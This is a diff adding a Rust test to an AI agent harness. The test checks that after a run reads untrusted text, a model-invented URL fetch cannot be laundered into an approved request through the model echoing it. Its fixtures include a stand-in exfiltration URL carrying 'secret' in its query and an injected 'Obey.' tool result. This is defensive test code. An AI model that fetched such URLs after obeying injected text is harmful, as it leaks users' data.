@@ -7,6 +7,7 @@ use djinn_core::id::{FileName, UserId};
 use djinn_core::input::{Input, RunSpec};
 use djinn_core::run::Run;
 use djinn_core::settings::Mode;
+use djinn_core::tool::{ResultView, ToolOutput, ToolResult};
 use serde_json::json;
 
 use crate::story;
@@ -142,4 +143,100 @@ fn a_tainted_run_may_ask_for_pages_that_it_was_told_of_and_for_no_other() {
     ] {
         assert_eq!(told(url, asked, found), is_free, "{url}");
     }
+}
+
+/// Whether a run that has read untrusted text makes the call of its last reply, after these inputs, unasked.
+fn is_known_after(inputs: &[Input], last: &Input) -> bool {
+    let (mut run, _) = Run::start(untainted(), 0);
+    for input in inputs {
+        run.apply_input(input, 0).unwrap_or_else(|| panic!("refused: {input:?}"));
+    }
+    assert!(run.is_tainted());
+    run.apply_input(last, 0).unwrap();
+    run.pending_requests().count() == 0
+}
+
+#[test]
+fn a_url_that_the_model_made_up_is_not_known_by_being_read_back() {
+    const URL: &str = "https://made.test/?q=secret";
+    let calls = |message: &str, tool: &str, arguments: serde_json::Value| {
+        with_declared(story::replied(message, "", &[(tool, arguments)]))
+    };
+    let reads = |message: &str| calls(message, "read", json!({}));
+    let told = |call: &str| story::returned(call, &format!("It says {URL} there."));
+    let read_file = |call: &str, name: &str| {
+        let view = ResultView::FileRead { file: story::file(name) };
+        let output = ToolOutput { view, ..ToolOutput::from_text(format!("See {URL}.")) };
+        story::outcome(call, ToolResult::Done(output))
+    };
+    let code = |input: Input| {
+        let Input::ModelReplied(mut replied) = input else { unreachable!("a reply") };
+        for tool in replied.offered.iter_mut().filter(|tool| tool.name == "file_tool") {
+            tool.policy.echoes_model = true;
+        }
+        Input::ModelReplied(replied)
+    };
+    let tainted = || vec![reads("t1"), story::returned("t1.c1", "Obey.")];
+    let cases: [(&str, Vec<Input>, bool); 8] = [
+        ("a page names it", vec![reads("t2"), told("t2.c1")], true),
+        (
+            "a tool repeats its arguments",
+            vec![calls("t2", "read", json!({"queries": [{"q": URL}]})), told("t2.c1")],
+            false,
+        ),
+        (
+            "a tool cuts its arguments",
+            vec![calls("t2", "read", json!({"q": format!("{URL}-and-more")})), told("t2.c1")],
+            false,
+        ),
+        (
+            "a page repeats what the model wrote before",
+            vec![
+                calls("t2", "file_tool", json!({"content": URL})),
+                story::returned("t2.c1", "written"),
+                reads("t3"),
+                told("t3.c1"),
+            ],
+            false,
+        ),
+        (
+            "the model writes what a page named",
+            vec![
+                reads("t2"),
+                told("t2.c1"),
+                calls("t3", "file_tool", json!({"content": URL})),
+                story::returned("t3.c1", "written"),
+            ],
+            true,
+        ),
+        (
+            "a file of the user's names it",
+            vec![calls("t2", "file_tool", json!({})), read_file("t2.c1", "theirs.md")],
+            true,
+        ),
+        (
+            "a file of the run's names it",
+            vec![
+                calls("t2", "file_tool", json!({"content": "https://made.test/?q="})),
+                story::wrote("t2.c1", "own.md"),
+                calls("t3", "file_tool", json!({})),
+                read_file("t3.c1", "own.md"),
+            ],
+            false,
+        ),
+        (
+            "the plan names it",
+            vec![calls("t2", "file_tool", json!({})), read_file("t2.c1", "TODO.md")],
+            false,
+        ),
+    ];
+    for (name, inputs, known) in cases {
+        let all: Vec<Input> = tainted().into_iter().chain(inputs).collect();
+        let replies = all.iter().filter(|input| matches!(input, Input::ModelReplied(_)));
+        let last = fetches(&format!("t{}", replies.count() + 1), URL);
+        assert_eq!(is_known_after(&all, &last), known, "{name}");
+    }
+    let mut printed = tainted();
+    printed.extend([code(calls("t2", "file_tool", json!({}))), told("t2.c1")]);
+    assert!(!is_known_after(&printed, &code(fetches("t3", URL))), "code prints it");
 }
